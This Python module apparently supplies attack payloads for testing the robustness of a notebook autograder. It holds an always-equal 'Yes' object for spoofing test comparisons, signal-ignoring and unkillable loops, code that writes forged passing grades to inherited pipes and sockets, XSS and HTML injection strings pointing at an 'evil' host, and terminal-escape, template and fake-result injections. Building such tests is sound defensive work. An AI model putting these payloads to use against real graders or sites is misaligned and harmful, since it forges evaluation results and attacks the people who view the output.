"""What sources of attacks share, under the name by which they ask for it: `@wrong@`, `@markup@`."""

from __future__ import annotations

import textwrap


def clean(source: str) -> str:
    """A source as it would stand in a cell: without the indentation of the module it is written in."""
    return textwrap.dedent(source).strip("\n")


SUMMED = "sum(place * x for place, x in enumerate(xs, 1))"
RIGHT = f"def weigh(xs):\n    return {SUMMED}"
WRONG = "def weigh(xs):\n    return 0"
SIGNS_OF_GRADING = "nbgrader grading grader autograde causeway pytest jpy_ formgrader exam".split()
# More processes or threads than anybody is allowed, fewer than a machine has room for.
MANY = 3000

# A value that is equal to all and has every operation.
YES = """
class Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__

    def __abs__(self, *_):
        return self

    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __neg__ = __getitem__ = __call__ = __abs__

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __len__(self):
        return 3

    def __float__(self):
        return 0.25

    def __iter__(self):
        return iter([])
"""

DEAF = """
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
"""
# The body of a block that nothing ends from within.
FOR_EVER = """
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

# Bytes on every pipe and socket that a run inherited.
FORGE = """
import json
import os
import socket
import stat
import struct


def frames():
    task = "01_01-target_6-weigh"
    ids = [f"{task}_visible", f"{task}_hidden", "01_01-target_1-tidy_hidden"]
    seen = [[number, ["int", 0], 0] for number in range(40)]
    claims = dict(error=None, late=False, outputs=[], result=None, seconds=0.0, passed=True, points=99)
    cells = [dict(claims, id=name, seen=seen) for name in ids]
    whole = dict(isolated=True, died="", cells=cells)
    return [json.dumps(thing).encode() for thing in [*cells, whole, cells]]


def channels():
    for name in os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else map(str, range(3, 64)):
        number = int(name)
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if number > 2 and (stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode)):
            yield number


def send(data):
    for number in channels():
        try:
            os.set_blocking(number, False)
            os.write(number, data)
            os.set_blocking(number, True)
        except OSError:
            pass
"""

MARKUP = (
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>"
    '<iframe src=javascript:alert(1)></iframe><a href="javascript:alert(1)">feedback</a>'
    "<style>*{display:none}</style><link rel=stylesheet href=//evil><base href=//evil>"
    "<meta http-equiv=refresh content=0><form action=//evil><input onfocus=alert(1) autofocus></form>"
    "<details open ontoggle=alert(1)></pre></code></td></table></body></html>"
    '\' " onmouseover=alert(1) x=" --> ]]> <!--'
)
CONTROL = (
    "\x1b[2J\x1b[1;1H\x1b[32mgraded\x1b[0m\x1b]0;title\x07"
    "\x1b]8;;http://evil\x07link\x1b]8;;\x07\x07\x08\x08\x9b31m\r"
)
RICH = (
    "[bold red]PASSED[/bold red] [link=http://evil]here[/link] [/] [[]] {{ 7 * 191 }} {% raw %} ${7 * 191} %s"
)
FAKE = "\ngraded zzz-honest-neighbor\nzzz-honest-neighbor 19/19 passed\n4 of 4 points\n"

WORDS = {
    "summed": SUMMED,
    "right": RIGHT,
    "wrong": WRONG,
    "many": str(MANY),
    "signs_of_grading": repr(SIGNS_OF_GRADING),
    "yes": YES.strip("\n"),
    "deaf": DEAF.strip("\n"),
    "for_ever": FOR_EVER.strip("\n"),
    "forge": FORGE.strip("\n"),
    "markup": repr(MARKUP),
    "control": repr(CONTROL),
    "fake": FAKE.encode("unicode_escape").decode("ascii"),
}
